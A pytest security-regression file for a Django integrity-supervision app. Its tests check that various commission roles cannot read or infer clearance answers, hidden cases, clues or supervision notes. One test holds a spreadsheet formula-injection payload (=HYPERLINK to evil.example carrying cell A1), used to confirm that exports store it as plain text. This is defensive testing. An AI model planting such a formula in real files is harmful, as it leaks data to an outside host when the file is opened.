"""Attacks on the integrity module: each test is a hole found by a security review,
failing before its fix. Roles of the test county try what they must not see."""

from __future__ import annotations

import io
from datetime import date

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from jiandu.core.errors import DomainError
from jiandu.integrity import clearance_services as services

from .conftest import admonition, people_rows

pytestmark = pytest.mark.django_db


# --- clearance: the asking body (组织部门) -------------------------------------------------


def test_the_asking_body_cannot_read_proposed_answers_through_the_ledger_filters(
    county, submitted, client_for
):
    """The proposal (否定性意见 for fin_head, under 诫勉) is not approved: the asking body's
    ledger and API must not answer "which of my requests has an adverse answer" nor
    "which names a given cadre" (ids the role may not see)."""
    u = county.users
    admonition(county.cadres["fin_head"], on=date(2025, 10, 1))
    services.clearance_propose(
        actor=u["case_management"], clearance=submitted, on=date(2025, 12, 10)
    )
    assert submitted.people.filter(answer="negative").exists()
    client = client_for(u["org_department"])
    for key in ("dept_fin", "town_b"):
        unit = county.units[key].pk
        page = client.get(reverse("integrity:clearance_list"), {"adverse_unit": unit})
        api = client.get(reverse("clearance-request-list"), {"adverse_unit": unit}).json()
        # The filter is not the asking body's: it changes nothing for it.
        assert api["count"] == 1
        assert submitted.number in page.content.decode()
    # A filter on a cadre the role may not see is not a yes/no oracle either.
    other = county.cadres["teacher"].pk
    assert client.get(reverse("clearance-request-list"), {"cadre": other}).json()["count"] == 1


def test_a_refused_row_does_not_tell_the_asking_body_whose_id_number_it_is(county):
    """The asking body names a person with a real ID number and a wrong name: the refusal
    says the name does not match, never the register's name for that number."""
    rows = people_rows(county, "edu_head")
    rows[0]["name"] = "某某"
    with pytest.raises(DomainError) as refused:
        services.clearance_request_submit(
            actor=county.users["org_department"], purpose="award", people=rows
        )
    text = f"{refused.value.message} {refused.value.fields}"
    assert "姓名与干部名册不符" in text
    assert county.cadres["edu_head"].name not in text


# --- alerts: the reason carries no record the viewer may not open ---------------------------


def test_found_after_clearance_names_no_case_the_alerting_office_may_not_open(
    county, submitted, client_for, today_is
):
    """A case about 张伟 (教育局, watched by 派驻第一组) led by 第一纪检监察室 after his
    clearance: 派驻第一组 gets the alert "意见回复后新发现问题" but may not open the case,
    so neither its number nor its 案由 appears in the alert (page, list, export, API)."""
    from jiandu.cases import services as cases
    from jiandu.integrity.alert_services import alerts_compute
    from jiandu.integrity.models import Alert, AlertKind

    u = county.users
    today_is(date(2025, 12, 10))
    services.clearance_propose(
        actor=u["case_management"], clearance=submitted, on=date(2025, 12, 10)
    )
    services.clearance_submit(actor=u["case_management"], clearance=submitted)
    services.clearance_decide(actor=u["leader"], clearance=submitted, approve=True)
    today_is(date(2026, 1, 5))
    case = cases.case_open(
        actor=u["supervision_office"],
        kind="person",
        title="张伟插手教育装备采购案",
        summary="插手教育装备采购。",
        proposed_on=date(2026, 1, 5),
        lead_unit=county.units["office1"],
        people=[cases.PersonInput(cadre=county.cadres["edu_head"])],
        category_codes=["integrity"],
    )
    alerts_compute(on=date(2026, 1, 6))
    alert = Alert.objects.get(kind=AlertKind.FOUND_AFTER_CLEARANCE)
    client = client_for(u["resident_team"])
    assert client.get(reverse("cases:case_detail", args=(case.pk,))).status_code == 404
    for url in (
        reverse("integrity:alert_detail", args=(alert.pk,)),
        reverse("integrity:alert_list"),
        reverse("alert-detail", args=(alert.pk,)),
        reverse("alert-list"),
    ):
        body = client.get(url).content.decode()
        assert alert.cadre.name in body, url
        assert case.number not in body and "教育装备采购" not in body, url
    export = client.get(reverse("integrity:alert_list"), {"export": "xlsx"})
    assert export.status_code == 200
    cells = " ".join(
        str(c.value)
        for row in load_workbook(io.BytesIO(export.content)).active.iter_rows()
        for c in row
    )
    assert case.number not in cells and "教育装备采购" not in cells
    # Whoever may open the case still reads it in the evidence.
    evidence = (
        client_for(u["supervision_office"])
        .get(reverse("alert-detail", args=(alert.pk,)))
        .json()["evidence"]
    )
    assert any(e.get("number") == case.number for e in evidence)


# --- profiles: the "一人一策" notes are the responsible office's -------------------------------


def test_supervision_notes_are_read_by_the_office_responsible_not_by_every_reader_of_cadres(
    county, client_for
):
    """派驻第一组 notes how it supervises 张伟. The notes are the supervision work of the
    office responsible for the cadre (as the alerts are: domain "alerts"); the petition
    office, the review office and the inspection office read cadres' files but hold no
    supervision scope, so they do not read the notes."""
    from jiandu.integrity.profile_services import supervision_note_add

    u = county.users
    cadre = county.cadres["edu_head"]
    supervision_note_add(actor=u["resident_team"], cadre=cadre, text="约谈提醒：注意教育装备采购")
    url = reverse("integrity:cadre_profile", args=(cadre.pk,))
    for role in ("resident_team", "supervision_office", "case_management", "leader"):
        assert "注意教育装备采购" in client_for(u[role]).get(url).content.decode(), role
    for role in ("petition", "review", "inspection"):
        response = client_for(u[role]).get(url)
        assert response.status_code == 200, role
        assert "注意教育装备采购" not in response.content.decode(), role


def test_clearance_while_barred_counts_no_clue_the_alerting_office_may_not_open(
    county, submitted, client_for
):
    """张伟 is named in an open clearance request while a clue about him is handled by
    派驻第二组 (not by 派驻第一组, which watches 教育局): 派驻第一组 gets the alert, but
    neither the clue nor a count of clues it may not open."""
    from jiandu.clues.models import ClueStatus
    from jiandu.integrity.alert_services import alerts_compute
    from jiandu.integrity.models import Alert, AlertKind

    from .conftest import make_clue

    u = county.users
    clue = make_clue(
        county.cadres["edu_head"], on=date(2025, 11, 3), status=ClueStatus.VERIFICATION
    )
    clue.handling_unit = county.units["team2"]
    clue.save(update_fields=["handling_unit"])
    alerts_compute(on=date(2025, 12, 2))
    alert = Alert.objects.get(kind=AlertKind.CLEARANCE_WHILE_BARRED)
    assert alert.cadre == county.cadres["edu_head"]
    client = client_for(u["resident_team"])
    assert client.get(reverse("clues:clue_detail", args=(clue.pk,))).status_code == 404
    data = client.get(reverse("alert-detail", args=(alert.pk,))).json()
    assert "1件" not in data["reason"] and "问题线索正在办理" in data["reason"]
    assert clue.number not in str(data)
    assert submitted.number not in data["reason"]


def test_hidden_evidence_is_one_placeholder_neither_which_nor_how_many(
    county, client_for, make_report
):
    """An alert about 张伟 rests on three reports that 派驻第一组 may not open (no unit of
    its liaison handles them, their subject rows name no unit): it reads one
    “（无权查看）”, not one per report nor their kind — as ``scoped_refs`` does."""
    from jiandu.integrity.detectors import evidence
    from jiandu.integrity.models import Alert

    cadre = county.cadres["edu_head"]
    reports = [make_report(cadre, date(2025, m, 3)) for m in (1, 2, 3)]
    alert = Alert.objects.create(
        kind="repeated_reports",
        key="repeated_reports:test",
        cadre=cadre,
        unit=county.units["dept_edu"],
        reason="测试",
        raised_on=date(2025, 3, 4),
        evidence=[evidence("report", r.pk, r.number, "信访举报") for r in reports],
    )
    team = client_for(county.users["resident_team"])
    items = team.get(reverse("alert-detail", args=(alert.pk,))).json()["evidence"]
    assert items == [{"kind": "", "visible": False, "number": "（无权查看）"}]
    html = team.get(reverse("integrity:alert_detail", args=(alert.pk,))).content.decode()
    assert html.count('data-testid="evidence-item"') == 1 and 'data-kind="report"' not in html
    cm = client_for(county.users["case_management"])
    items = cm.get(reverse("alert-detail", args=(alert.pk,))).json()["evidence"]
    assert [i["number"] for i in items] == [r.number for r in reports]


def test_the_alert_ledger_counts_only_the_new_alerts_the_viewer_may_see(county, client_for):
    """The last run raised an alert for each leading post held 5 years and more (six
    posts since 2020); 东镇纪委 sees the two in 东镇 — the banner of the last run says
    2, not the county's total."""
    from jiandu.integrity.alert_services import alerts_compute
    from jiandu.integrity.models import Alert, AlertRun

    alerts_compute(on=date(2026, 6, 10))
    run = AlertRun.objects.get()
    visible = Alert.objects.visible_to(county.users["township_commission"]).count()
    assert run.raised > visible == 2
    html = (
        client_for(county.users["township_commission"])
        .get(reverse("integrity:alert_list"))
        .content.decode()
    )
    assert "新提示2条" in html and f"新提示{run.raised}条" not in html
    html = client_for(county.users["leader"]).get(reverse("integrity:alert_list")).content.decode()
    assert f"新提示{run.raised}条" in html


# --- exports: what the asking body types stays text in the commission's Excel ---------------


def test_the_asking_bodys_text_is_never_a_formula_in_the_commissions_export(county, client_for):
    """The 组织部门 account (outside the commission) names its asking body
    ``=HYPERLINK(…)``: in the ledger's Excel the handling office opens it is the text as
    typed, not a formula that would call out when the file is opened."""
    payload = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
    rows = people_rows(county, "edu_head")
    response = client_for(county.users["org_department"]).post(
        reverse("clearance-request-list"),
        {"purpose": "award", "asking_body": payload, "purpose_note": "+1+1", "people": rows},
        content_type="application/json",
    )
    assert response.status_code == 201, response.content
    export = client_for(county.users["case_management"]).get(
        reverse("integrity:clearance_list"), {"export": "xlsx"}
    )
    sheet = load_workbook(io.BytesIO(export.content)).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value == payload]
    assert cells and all(c.data_type == "s" for c in cells)


def test_the_commission_opens_a_clearance_alerts_evidence(county):
    """The reply and the measures behind a 意见回复 alert are records of known kinds: the
    case management office (which sees every request and case) gets their links; an
    office without the clearance domain gets the placeholder for the reply."""
    from jiandu.integrity.alert_selectors import evidence_for
    from jiandu.integrity.clearance_services import clearance_request_submit
    from jiandu.integrity.models import Alert
    from jiandu.integrity.tests.conftest import people_rows

    request = clearance_request_submit(
        actor=county.users["org_department"],
        purpose="promotion",
        people=people_rows(county, "edu_head"),
        received_on=date(2026, 3, 2),
    )
    alert = Alert.objects.create(
        kind="clearance_barred",
        key="t:evidence",
        cadre=county.cadres["edu_head"],
        unit=county.units["dept_edu"],
        reason="征求意见时处于影响期",
        raised_on=date(2026, 3, 3),
        evidence=[
            {"kind": "clearance", "id": request.pk, "number": request.number,
             "label": "征求意见", "url": request.get_absolute_url()},
        ],
    )  # fmt: skip
    shown = evidence_for(user=county.users["case_management"], alert=alert)
    assert [e["number"] for e in shown if e.get("url")] == [request.number]
    team = evidence_for(user=county.users["resident_team"], alert=alert)
    assert all(request.number not in str(e) for e in team)


def test_the_asking_body_gets_no_target_date_before_the_reply(county, client_for, submitted):
    from django.urls import reverse

    from jiandu.integrity.models import ClearanceRequest

    ClearanceRequest.objects.filter(pk=submitted.pk).update(target_date=date(2025, 12, 3))
    url = reverse("clearance-request-detail", args=(submitted.pk,))
    asked = client_for(county.users["org_department"]).get(url).json()
    assert asked["target_date"] is None
    handled = client_for(county.users["case_management"]).get(url).json()
    assert handled["target_date"] == "2025-12-03"
